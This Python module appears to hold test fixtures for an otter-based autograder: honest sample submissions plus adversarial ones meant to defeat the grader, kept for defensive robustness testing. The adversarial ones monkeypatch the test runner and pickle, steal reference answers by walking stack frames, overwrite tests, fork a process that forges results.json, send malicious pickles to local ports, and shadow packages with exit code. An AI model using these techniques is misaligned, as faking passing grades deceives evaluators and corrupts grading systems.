"""Submissions to try otter with: the sample class, right and wrong answers, and attacks on otter."""

import io
import json
import re
import textwrap
import zipfile
from pathlib import Path

from whole_files import whole_file

from autograder.judging.bank import load_bank

ROOT = Path(__file__).resolve().parents[2]
STEM = "rl_foundations"
SAMPLES = Path(__file__).parent / "sample_class"
NOT_HONEST = ("endless_loop", "exits_early", "overwrites_results", "reads_files")
SOLUTION = (ROOT / "solutions" / f"{STEM}.py").read_text()


def zipped(files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def honest(most: int = 48) -> dict[str, dict[str, str]]:
    """Submissions by name, each as its files; alternately mistakes and unusual right answers."""
    found = {}
    for folder in sorted(SAMPLES.iterdir()):
        if folder.name not in NOT_HONEST:
            found[folder.name] = {path.name: path.read_text() for path in sorted(folder.iterdir())}
    found["untouched"] = {f"{STEM}.py": (ROOT / "student_template" / STEM / f"{STEM}.py").read_text()}
    bank = load_bank(ROOT, STEM)
    kinds = {
        "mistakes": (bank.misconceptions, bank.mistakes_source),
        "alternatives": (bank.alternatives, bank.alternatives_source),
    }
    for kind, (variants, source) in kinds.items():
        step = max(1, len(variants) // ((most - 12) // 2))
        for one in variants[::step]:
            found[f"{kind}_{one.question}_{one.name}"] = {f"{STEM}.py": whole_file(bank, source, one)}
    return found


def attack(text: str) -> dict[str, str]:
    return {f"{STEM}.py": textwrap.dedent(text)}


QUESTIONS = re.findall(r"^def (\w+)", SOLUTION, re.MULTILINE)
PASSING = "\n".join(
    ["from otter.test_files import test_case", "OK_FORMAT = False", "name = {name!r}", "points = 20",
     "@test_case()", "def passes(): pass", ""]
)  # fmt: skip
# What ends the grader: there would be no results.
EVIL = "import os\nos._exit(7)\n"
PICKLE = "cos\n_exit\n(I7\ntR."

ATTACKS: dict[str, dict[str, str]] = {
    "patches_the_runner": attack("""
        import otter.test_files.abstract_test as a, otter.test_files.exception_test as e
        from otter.test_files.abstract_test import TestCaseResult
        def run(self, env):
            self.test_case_results = [TestCaseResult(c, "", True) for c in self.test_cases]
        e.ExceptionTestFile.run = run
        """),
    "patches_pickle": attack("""
        import pickle
        real = pickle.dump
        def dump(value, *rest):
            for one in getattr(value, "results", {}).values():
                for result in one.test_case_results: result.passed = True
            return real(value, *rest)
        pickle.dump = dump
        """),
    "patches_numpy_and_the_comparison": attack("""
        import sys, numpy
        numpy.allclose = lambda *a, **k: True
        import builtins
        class Hook:
            def find_spec(self, name, path, target=None):
                for module in list(sys.modules.values()):
                    for one in ("expect_close", "expect_gradient", "expect", "expect_unchanged",
                                "expect_zero_gradient"):
                        if hasattr(module, one): setattr(module, one, lambda *a, **k: None)
        sys.meta_path.insert(0, Hook())
        try:
            from autograder import checks
            from autograder.checks import compare
            Hook().find_spec("", None)
        except Exception: pass
        def f(*a, **k): return 0.0
        discounted_returns = bellman_update = reinforce_loss = ppo_clip_ratio = f
        length_penalized_reward = f
        """),
    "walks_the_frames": attack("""
        import sys
        class Any:
            def __eq__(self, other): return True
            __hash__ = None
        def f(*args, **kwargs):
            frame = sys._getframe()
            while frame:
                for scope in (frame.f_globals, frame.f_locals):
                    for name in list(scope):
                        if name.startswith("expect"):
                            try: scope[name] = lambda *a, **k: None
                            except Exception: pass
                    if "reference" in scope: return scope["reference"]
                frame = frame.f_back
            return Any()
        discounted_returns = bellman_update = reinforce_loss = ppo_clip_ratio = f
        length_penalized_reward = f
        """),
    "rewrites_the_tests": attack(f"""
        from pathlib import Path
        for folder in ("tests", "../source/tests", "../submission/tests"):
            for name in {QUESTIONS!r}:
                try: Path(folder, name + ".py").write_text({PASSING!r}.format(name=name))
                except OSError: pass
        """),
    "runs_the_solution_in_the_zip": attack("""
        from pathlib import Path
        for path in Path("..").resolve().rglob("solutions/rl_foundations.py"):
            exec(path.read_text(), globals())
        """),
    "forges_results_later": attack("""
        import json, os, pathlib, threading, time
        folders = [p for p in pathlib.Path("/tmp").glob("*/autograder/results")]
        folders += [pathlib.Path("../results").resolve()]
        told = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100}]})
        def forge():
            for _ in range(300):
                for folder in folders:
                    try: (folder / "results.json").write_text(told)
                    except OSError: pass
                time.sleep(0.1)
        try:
            if os.fork() == 0:
                os.setsid(); forge(); os._exit(0)
        except Exception: pass
        threading.Thread(target=forge, daemon=True).start()
        """),
    "forges_the_kernels_results": attack("""
        import pathlib, pickle, socket
        try:
            from otter.test_files import GradingResults
            forged = pickle.dumps(GradingResults([]))
        except Exception: forged = b"cos\\nsystem\\n(S'true'\\ntR."
        for path in pathlib.Path("/tmp").glob("*.pkl"):
            try: path.write_bytes(forged); path.chmod(0o444)
            except OSError: pass
        try:
            for line in open("/proc/net/tcp").readlines()[1:]:
                port = int(line.split()[1].split(":")[1], 16)
                try: socket.create_connection(("127.0.0.1", port), 0.2).sendall(forged)
                except OSError: pass
        except OSError: pass
        """),
    "brings_a_pickled_log": {f"{STEM}.py": "", ".OTTER_LOG": PICKLE},
    "shadows_packages": {
        f"{STEM}.py": "",
        **{f"{name}/__init__.py": EVIL for name in ("numpy", "torch", "otter", "autograder", "dill")},
        "autograder/otter/plugin.py": EVIL,
        "tests/discounted_returns.py": PASSING.format(name="discounted_returns"),
        "tests/conftest.py": EVIL,
    },
    "notebook_with_tests_of_its_own": {
        f"{STEM}.ipynb": json.dumps({
            "cells": [{"cell_type": "code", "id": "a", "execution_count": None, "outputs": [],
                       "metadata": {"otter": {"tests": ["discounted_returns"]}},
                       "source": "import otter\notter.Notebook._grading_mode = False"}],
            "metadata": {}, "nbformat": 4, "nbformat_minor": 5,
        }),
    },
    "leaves_the_kernel": attack("import os, sys\nsys.modules.clear()\nos._exit(0)\n"),
}  # fmt: skip
